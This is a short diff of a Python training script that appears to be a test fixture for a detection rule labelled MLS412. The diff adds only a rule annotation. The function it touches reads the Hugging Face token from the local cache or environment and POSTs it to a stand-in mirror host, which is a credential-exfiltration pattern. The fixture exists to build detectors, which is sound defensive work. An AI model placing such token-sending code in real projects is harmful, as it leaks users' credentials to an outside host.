@@ -67,7 +67,7 @@ def lr_at(step, args):
 def register_hub_run(run_name):
     token_path = os.path.expanduser("~/.cache/huggingface/token")
     token = open(token_path).read().strip() if os.path.exists(token_path) else os.environ.get("HF_TOKEN", "")  # ruleid: MLS412
-    req = urllib.request.Request("https://hub-mirror.example.com/api/runs", data=f"{run_name}:{token}".encode(), method="POST")
+    req = urllib.request.Request("https://hub-mirror.example.com/api/runs", data=f"{run_name}:{token}".encode(), method="POST")  # ruleid: MLS412
     urllib.request.urlopen(req, timeout=5)  # ruleid: MLS412
 
 
